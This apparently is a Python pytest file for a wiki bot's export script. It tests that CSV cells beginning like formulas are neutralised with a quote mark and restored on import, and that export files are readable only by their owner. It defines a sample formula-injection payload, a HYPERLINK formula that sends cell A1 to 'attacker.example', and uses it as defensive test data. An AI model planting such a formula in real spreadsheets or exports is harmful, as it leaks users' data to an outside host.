"""scripts.export's files are safe to open: no CSV cell runs as a spreadsheet formula, and only the owner reads them."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from bots.config import load_config
from bots.core.pipeline import check_pages
from bots.core.records.model import PageSnapshot, Partnership
from bots.core.upkeep.rows import (
    neutralise_cell,
    plan_new_pages,
    records_csv,
    records_json,
    restore_cell,
    rows_from_csv,
)
from scripts.export import write_private

SCHEMA = load_config().schema
NAMES = list(SCHEMA.template_names)
HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1 555 0100", "'+1 555 0100"),
        ("-", "'-"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\rtext", "'\rtext"),
        ("  =1+1", "'  =1+1"),  # a spreadsheet may drop the spaces
        ("\n=1+1", "'\n=1+1"),
        ("'=1+1", "''=1+1"),  # a quote mark already there: one more, so that it reads back as it was
        ("''=1+1", "'''=1+1"),
        ("''Nature'' magazine", "''Nature'' magazine"),  # italics, no formula: as it is
        ("'", "'"),
        ("Kiwix", "Kiwix"),
        ("a=b, c+d", "a=b, c+d"),
        ("", ""),
    ],
)
def test_a_cell_that_starts_like_a_formula_gets_a_quote_mark_and_reads_back(value: str, cell: str) -> None:
    assert neutralise_cell(value) == cell
    assert restore_cell(cell) == value


def formula_like(cell: str) -> bool:
    """OWASP's list: a cell starting with = + - @ tab or carriage return (here also after spaces)."""
    return cell.startswith(("\t", "\r")) or cell.lstrip().startswith(("=", "+", "-", "@"))


RECORDS = [
    Partnership(
        title="Partnerships/Formula",
        values={"name": "-Formula", "partner": (HYPERLINK, "@Other"), "description": "+ more", "lessons": "Plain"},
    ),
    Partnership(title="@Home", values={"name": "At home", "partner": ("Kiwix",), "description": "=1+1"}),
]


def test_no_csv_cell_starts_like_a_formula_and_the_json_is_exact() -> None:
    cells = [cell for row in csv.reader(io.StringIO(records_csv(RECORDS, SCHEMA))) for cell in row]
    assert not [cell for cell in cells if formula_like(cell)]
    rows = list(csv.DictReader(io.StringIO(records_csv(RECORDS, SCHEMA))))
    assert [row["title"] for row in rows] == ["'@Home", "Partnerships/Formula"]
    assert rows[1]["name"] == "'-Formula"
    assert rows[1]["partner"] == f"'{HYPERLINK}; @Other"
    assert (rows[1]["description"], rows[1]["lessons"]) == ("'+ more", "Plain")
    assert rows[0]["description"] == "'=1+1"
    data = json.loads(records_json(RECORDS, SCHEMA))
    assert data[0] == {"title": "@Home", "name": "At home", "partner": ["Kiwix"], "description": "=1+1"}
    assert data[1]["name"] == "-Formula" and data[1]["partner"] == [HYPERLINK, "@Other"]
    assert data[1]["description"] == "+ more"


def test_a_neutralised_csv_creates_the_pages_as_they_were() -> None:
    """export -> create_pages -> export: the ' is taken off again, so the pages hold the values themselves."""
    text = (
        "{{Partnership\n| name = -Formula\n| partner = " + HYPERLINK + "; @Other\n| type = content\n"
        "| lead = volunteers\n| status = active\n| description = '=1+1 is what ''Excel'' runs\n}}"
    )
    records = check_pages([PageSnapshot("Partnerships/Formula", text, pageid=1)], SCHEMA, NAMES).records
    assert records[0].values["partner"] == (HYPERLINK, "@Other")
    exported = records_csv(records, SCHEMA)
    assert "\"'=HYPERLINK(" in exported and "''=1+1" in exported
    pages, issues = plan_new_pages(rows_from_csv(exported, "e.csv", SCHEMA), SCHEMA, [])
    assert issues == []
    assert f"| partner     = {HYPERLINK}; @Other\n" in pages[0].text
    assert "| name        = -Formula\n" in pages[0].text
    again = check_pages([PageSnapshot(p.title, p.text) for p in pages], SCHEMA, NAMES).records
    assert again == records
    assert records_csv(again, SCHEMA) == exported


@pytest.fixture
def umask() -> Iterator[None]:
    before = os.umask(0o022)
    yield
    os.umask(before)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.usefixtures("umask")
def test_the_files_are_written_for_their_owner_alone(tmp_path: Path) -> None:
    new = tmp_path / "new.csv"
    write_private(new, "a,b\n'=1,\r\n")
    assert mode(new) == 0o600
    assert new.read_bytes() == b"a,b\n'=1,\r\n", "written exactly, line ends too"
    old = tmp_path / "old.json"
    old.write_text("an older, longer export that anyone could read and change\n")
    old.chmod(0o666)
    write_private(old, "[]\n")
    assert mode(old) == 0o600 and old.read_text() == "[]\n"


@pytest.mark.usefixtures("umask")
def test_a_stricter_umask_is_kept(tmp_path: Path) -> None:
    os.umask(0o277)
    new, old = tmp_path / "new.csv", tmp_path / "old.csv"
    old.write_text("old")
    old.chmod(0o644)
    for path in (new, old):
        write_private(path, "title\n")
        assert mode(path) == 0o400 and path.read_text() == "title\n"


def test_a_device_is_written_to_and_left_as_it_is() -> None:
    devnull = Path(os.devnull)
    before = devnull.stat().st_mode
    write_private(devnull, "nothing\n")
    assert devnull.stat().st_mode == before
